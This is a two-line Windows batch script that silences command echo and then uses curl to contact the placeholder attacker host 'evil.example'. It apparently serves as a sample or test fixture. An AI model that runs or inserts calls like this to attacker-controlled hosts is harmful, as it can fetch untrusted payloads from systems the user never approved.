@echo off
curl https://evil.example
